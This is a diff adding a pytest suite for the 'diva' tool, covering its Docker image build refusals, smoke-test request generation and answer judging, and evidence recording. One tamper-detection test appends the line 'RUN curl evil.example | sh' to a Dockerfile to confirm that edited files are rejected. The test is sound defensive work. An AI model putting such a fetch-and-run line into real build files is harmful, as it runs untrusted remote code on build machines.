@@ -1,0 +1,266 @@
+"""The image commands' checks before any engine work, their errors, the smoke test's
+request making and judging, and the evidence they record. The real engine and
+registry are exercised in tests/images/."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from diva.errors import UsageError
+from diva.evidence import record
+from diva.images.smoke import Field, Report, judge, render, sample_body
+from diva.images.train import repository_of
+from tests.conftest import ROOT
+from tests.unit.test_gate import context, spec_document
+from tests.unit.test_gate import judge as judge_checkpoint
+
+FIXTURE = ROOT / "tests" / "e2e" / "fixture"
+NUMBERS = [Field("x0", "float"), Field("n", "integer"), Field("flag", "boolean")]
+
+
+def diva(
+    root: Path, *args: str, env: dict[str, str] | None = None
+) -> subprocess.CompletedProcess[str]:
+    environment = {**os.environ, "PYTHONPATH": str(ROOT / "compiler"), **(env or {})}
+    return subprocess.run(
+        [sys.executable, "-m", "diva", *args],
+        cwd=root,
+        env=environment,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        check=False,
+    )
+
+
+def project(tmp_path: Path, stage: str = "large", *, registry: bool = False) -> Path:
+    """The e2e fixture at ``stage``, compiled, with a requirements.txt."""
+    root = tmp_path / "tiny"
+    shutil.copytree(FIXTURE, root)
+    spec = (root / "diva.yaml").read_text().replace("stage: small", f"stage: {stage}")
+    if registry:
+        spec = spec.replace("platform:\n", "platform:\n  image_registry: 127.0.0.1:5999/t\n")
+    (root / "diva.yaml").write_text(spec)
+    (root / "requirements.txt").write_text("scikit-learn\n")
+    compiled = diva(root, "compile")
+    assert compiled.returncode == 0, compiled.stderr
+    return root
+
+
+def assert_clean_error(result: subprocess.CompletedProcess[str], code: int, message: str) -> None:
+    assert result.returncode == code, result.stderr
+    assert message in result.stderr
+    assert "Traceback" not in result.stderr
+
+
+# --- refusals before the engine is asked ---------------------------------------------
+
+
+def test_no_training_image_before_stage_3(tmp_path: Path) -> None:
+    root = project(tmp_path, "small")
+    assert not (root / "docker").exists()
+    assert_clean_error(diva(root, "build", "train"), 2, "the train image comes with stage 3")
+
+
+def test_no_serving_image_before_stage_4(tmp_path: Path) -> None:
+    root = project(tmp_path)
+    assert_clean_error(diva(root, "build", "serve"), 2, "the serve image comes with stage 4")
+
+
+def test_an_edited_dockerfile_is_refused(tmp_path: Path) -> None:
+    root = project(tmp_path)
+    dockerfile = root / "docker" / "train.Dockerfile"
+    dockerfile.write_text(dockerfile.read_text() + "RUN curl evil.example | sh\n")
+    assert_clean_error(
+        diva(root, "build", "train"), 2, "docker/train.Dockerfile is not what diva.yaml compiles to"
+    )
+
+
+def test_a_missing_dockerfile_asks_for_compile(tmp_path: Path) -> None:
+    root = project(tmp_path)
+    (root / "docker" / "train.Dockerfile").unlink()
+    assert_clean_error(diva(root, "build", "train"), 2, "does not exist: run `diva compile`")
+
+
+def test_missing_requirements_are_refused(tmp_path: Path) -> None:
+    root = project(tmp_path)
+    (root / "requirements.txt").unlink()
+    assert_clean_error(diva(root, "build", "train"), 2, "requirements.txt does not exist")
+
+
+def test_push_needs_a_registry(tmp_path: Path) -> None:
+    root = project(tmp_path)
+    assert_clean_error(
+        diva(root, "build", "train", "--push"), 2, "--push needs platform.image_registry"
+    )
+
+
+def test_version_and_alias_exclude_each_other(tmp_path: Path) -> None:
+    root = project(tmp_path)
+    result = diva(root, "build", "serve", "--model-version", "1", "--alias", "champion")
+    assert_clean_error(result, 2, "--model-version and --alias exclude each other")
+
+
+def test_smoke_without_a_recorded_image_asks_for_one(tmp_path: Path) -> None:
+    root = project(tmp_path)
+    assert_clean_error(diva(root, "smoke"), 2, "no serving image recorded")
+
+
+# --- no engine -----------------------------------------------------------------------
+
+
+def test_no_docker_client_is_exit_4(tmp_path: Path) -> None:
+    root = project(tmp_path)
+    python_only = tmp_path / "bin"
+    python_only.mkdir()
+    (python_only / "python").symlink_to(sys.executable)
+    result = diva(root, "build", "train", env={"PATH": str(python_only)})
+    assert_clean_error(result, 4, "no `docker` client on PATH")
+
+
+@pytest.mark.skipif(shutil.which("docker") is None, reason="needs the docker client")
+def test_an_unreachable_engine_is_exit_4(tmp_path: Path) -> None:
+    root = project(tmp_path)
+    result = diva(root, "build", "train", env={"DOCKER_HOST": f"unix://{tmp_path}/none.sock"})
+    assert_clean_error(result, 4, "no Docker engine is reachable")
+    assert "DOCKER_HOST" in result.stderr
+
+
+@pytest.mark.skipif(shutil.which("docker") is None, reason="needs the docker client")
+def test_train_without_an_engine_is_exit_4(tmp_path: Path) -> None:
+    root = project(tmp_path)
+    result = diva(root, "train", env={"DOCKER_HOST": f"unix://{tmp_path}/none.sock"})
+    assert_clean_error(result, 4, "no Docker engine is reachable")
+
+
+# --- smoke requests and answers ------------------------------------------------------
+
+
+def test_sample_requests_follow_the_declared_inputs() -> None:
+    body = sample_body(NUMBERS, 5, seed=3)
+    split = body["dataframe_split"]
+    assert split["columns"] == ["x0", "n", "flag"]
+    assert len(split["data"]) == 5
+    for x0, n, flag in split["data"]:
+        assert isinstance(x0, float)
+        assert isinstance(n, int)
+        assert not isinstance(n, bool)
+        assert isinstance(flag, bool)
+    assert sample_body(NUMBERS, 5, seed=3) == body
+    assert sample_body(NUMBERS, 5, seed=4) != body
+
+
+@pytest.mark.parametrize("inputs", [[], [Field("picture", "image")]])
+def test_inputs_that_cannot_be_made_up_ask_for_a_request_file(inputs: list[Field]) -> None:
+    with pytest.raises(UsageError, match="pass --request FILE"):
+        sample_body(inputs, 1, seed=0)
+
+
+@pytest.mark.parametrize(
+    ("answer", "problem"),
+    [
+        ({"predictions": [1.0, 2.0]}, None),
+        ({"predictions": [{"y": 1.0}, {"y": 2}]}, None),
+        ([1.0, 2.0], "no 'predictions' list"),
+        ({"predictions": [1.0]}, "1 predictions for 2 rows"),
+        ({"predictions": [1.0, "high"]}, "y should be a number, got 'high'"),
+        ({"predictions": [1.0, float("nan")]}, "y should be a number"),
+        ({"predictions": [True, 1.0]}, "y should be a number, got True"),
+    ],
+)
+def test_answers_are_judged(answer: Any, problem: str | None) -> None:
+    found = judge(answer, 2, [Field("y", "float")])
+    if problem is None:
+        assert found is None
+    else:
+        assert found is not None
+        assert problem in found
+
+
+def test_the_report_passes_on_correct_answers_and_reports_latency() -> None:
+    report = Report("img", "sha256:1", requests=4, slo_latency_p95_ms=10, slo_error_rate=0.0)
+    report.latencies_ms = [1.0, 2.0, 3.0, 40.0]
+    assert report.passed
+    assert report.latency_within_slo is False  # reported, not failed
+    assert "is OVER latency_p95_ms 10" in render(report)
+    assert report.as_evidence()["latency_ms"]["p50"] == pytest.approx(2.5)
+
+
+def test_one_failed_request_fails_a_zero_error_budget() -> None:
+    report = Report("img", None, requests=10, errors=["HTTP 500"], slo_error_rate=0.0)
+    assert not report.passed
+    assert Report("img", None, requests=10, errors=["x"], slo_error_rate=0.1).passed
+
+
+def test_the_json_report_keeps_the_error_messages_and_their_count() -> None:
+    report = Report("img", None, requests=3, errors=["HTTP 500: b'boom'"], slo_error_rate=0.0)
+    report.latencies_ms = [1.0, 2.0]
+    document = report.as_dict()
+    assert document["errors"] == 1
+    assert document["error_messages"] == ["HTTP 500: b'boom'"]
+    assert document["latencies_ms"] == [1.0, 2.0]
+    assert document["passed"] is False
+
+
+@pytest.mark.parametrize(
+    ("reference", "repository"),
+    [
+        ("demo-train:env-1", "demo-train"),
+        ("127.0.0.1:5000/demo-serve", "127.0.0.1:5000/demo-serve"),
+        ("127.0.0.1:5000/demo-serve:v3", "127.0.0.1:5000/demo-serve"),
+        ("registry.example.com/ml/demo@sha256:ab", "registry.example.com/ml/demo"),
+        ("host:443/a/b:tag@sha256:ab", "host:443/a/b"),
+    ],
+)
+def test_the_repository_of_a_reference_keeps_a_registry_port(
+    reference: str, repository: str
+) -> None:
+    assert repository_of(reference) == repository
+
+
+# --- evidence --------------------------------------------------------------------------
+
+
+def test_merge_keeps_what_others_recorded(tmp_path: Path) -> None:
+    record.merge(tmp_path, {"images": {"training": {"digest": "sha256:1"}}})
+    record.merge(tmp_path, {"images": {"serving": {"digest": "sha256:2"}}})
+    record.merge(tmp_path, {"mlflow": {"versions": {"r": "1"}}, "stage": 3})
+    record.merge(tmp_path, {"mlflow": {"aliases": {}}, "stage": 4}, replace=("mlflow",))
+    document = json.loads((tmp_path / record.EVIDENCE_FILE).read_text())
+    assert next(iter(document)) == "$comment"
+    assert document["images"] == {
+        "training": {"digest": "sha256:1"},
+        "serving": {"digest": "sha256:2"},
+    }
+    assert document["mlflow"] == {"aliases": {}}
+    assert document["stage"] == 4
+    assert [path.name for path in tmp_path.iterdir()] == [record.EVIDENCE_FILE]
+
+
+def _smoke_evidence(root: Path, smoke_digest: str, passed: bool) -> None:
+    record.merge(root, {"images": {"serving": {"reference": "r/x:v1", "digest": "sha256:a"}}})
+    smoke = {"digest": smoke_digest, "passed": passed, "requests": 50, "errors": 0 if passed else 3}
+    record.merge(root, {"smoke": {**smoke, "latency_ms": {"p95": 7.5}}})
+
+
+def test_the_smoke_checkpoint_needs_a_passed_test_of_the_recorded_image(tmp_path: Path) -> None:
+    verdict = judge_checkpoint("image.smoke", context(spec_document(), tmp_path))
+    assert (verdict.status, verdict.detail) == ("fail", "no smoke test recorded (`diva smoke`)")
+    _smoke_evidence(tmp_path, "sha256:a", passed=True)
+    verdict = judge_checkpoint("image.smoke", context(spec_document(), tmp_path))
+    assert (verdict.status, verdict.detail) == ("pass", "50 requests, p95 7.5 ms")
+    _smoke_evidence(tmp_path, "sha256:a", passed=False)
+    verdict = judge_checkpoint("image.smoke", context(spec_document(), tmp_path))
+    assert (verdict.status, verdict.detail) == ("fail", "3 of 50 requests failed")
+    _smoke_evidence(tmp_path, "sha256:b", passed=True)
+    verdict = judge_checkpoint("image.smoke", context(spec_document(), tmp_path))
+    assert verdict.status == "fail"
+    assert "not the serving image" in verdict.detail
